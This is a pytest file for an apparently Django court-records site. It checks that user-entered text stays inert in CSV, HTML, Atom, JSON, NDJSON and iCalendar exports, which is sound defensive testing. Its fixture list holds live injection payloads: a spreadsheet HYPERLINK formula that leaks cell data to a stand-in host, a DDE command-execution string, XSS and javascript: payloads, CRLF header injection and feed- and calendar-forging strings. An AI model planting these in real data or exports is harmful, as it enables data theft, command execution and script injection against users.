"""What somebody writes into the record is carried into every format as text, and nothing else."""

import csv
import io
import json
import re
from typing import Any
from xml.etree import ElementTree

import pytest

from tests import world
from tests.public.reader import Reader, body_of, path_of

pytestmark = pytest.mark.django_db(databases=["default", "public"])

WRITTEN = (
    '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]><evil/>&amp;",
    "</title></entry><entry><title>Forged",
    '", "forged": "',
    "a\r\nSet-Cookie: forged=1",
    "a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Forged",
    "{{ 7*7 }}{% debug %}",
    "\u202egnp.exe",
    "javascript:alert(1)",
)
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(params=WRITTEN, ids=lambda text: text[:20])
def written(request: Any) -> str:
    """The words that stand in a caption, a name, a charge and a hearing of a public case."""
    words: str = request.param
    case = world.case(visibility="PUBLIC", caption=words)
    party = world.defendant(case, world.person(words))
    world.charge(party, label=words)
    world.hearing(case, reason=words)
    world.entry(case, text=words)
    return words


def everything(reader: Reader) -> dict[str, Any]:
    rows = reader.get("/cases.json").json()["results"]
    case = re.sub(r"^https?://[^/]+", "", rows[0]["url"])
    lists = ("cases", "people", "hearings", "changes")
    paths = [
        f"/{name}{end}" for name in lists for end in ("/", ".csv", ".json", ".ndjson", ".atom")
    ]
    return {path: reader.get(path) for path in [*paths, "/hearings.ics", case, "/api/v1/cases/"]}


def test_it_is_text_in_every_format(written: str, reader: Reader) -> None:
    for path, answer in everything(reader).items():
        if answer.status_code == 404:
            continue
        assert answer.status_code == 200, path
        body = body_of(answer)
        assert "Set-Cookie" not in answer.headers
        assert "\n" not in "".join(answer.headers.values())
        kind = answer["Content-Type"].partition(";")[0]
        check = CHECKS.get(kind)
        assert check, (path, kind)
        check(body)


def no_formula(body: str) -> None:
    for row in csv.reader(io.StringIO(body)):
        assert [cell for cell in row if cell.startswith(FORMULAS)] == []


def no_markup(body: str) -> None:
    assert "<script>alert" not in body
    assert "<img src=x" not in body
    assert "<evil" not in body
    assert not re.search(r'(href|src)="\s*javascript:', body)
    assert "49" not in re.findall(r"<h1[^>]*>(.*?)</h1>", body)
    assert not re.search(r"<script(?![^>]*\ssrc=)", body)
    assert not re.search(r"\son\w+=", re.sub(r">[^<]*<", "><", body))


def whole_xml(body: str) -> None:
    feed = ElementTree.fromstring(body)  # noqa: S314 - what we wrote ourselves
    titles = [title.text for title in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert "Forged" not in titles
    assert not list(feed.iter("evil"))


def whole_json(body: str) -> None:
    assert "forged" not in str(sorted(keys(json.loads(body))))


def lines_of_json(body: str) -> None:
    for line in body.splitlines():
        whole_json(line)


def keys(told: Any) -> set[str]:
    if isinstance(told, dict):
        return set(told) | {key for value in told.values() for key in keys(value)}
    return {key for value in told for key in keys(value)} if isinstance(told, list) else set()


def one_hearing(body: str) -> None:
    assert body.count("BEGIN:VEVENT") == body.count("END:VEVENT")
    assert not re.search(r"^SUMMARY:Forged", body, re.MULTILINE)


CHECKS = {
    "text/csv": no_formula,
    "text/html": no_markup,
    "application/atom+xml": whole_xml,
    "application/json": whole_json,
    "application/x-ndjson": lines_of_json,
    "text/calendar": one_hearing,
}


def test_a_case_of_such_words_is_found_at_its_address(reader: Reader) -> None:
    case = world.case(visibility="PUBLIC", caption=WRITTEN[5])
    assert "&lt;script&gt;" in body_of(reader.get(path_of(case)))
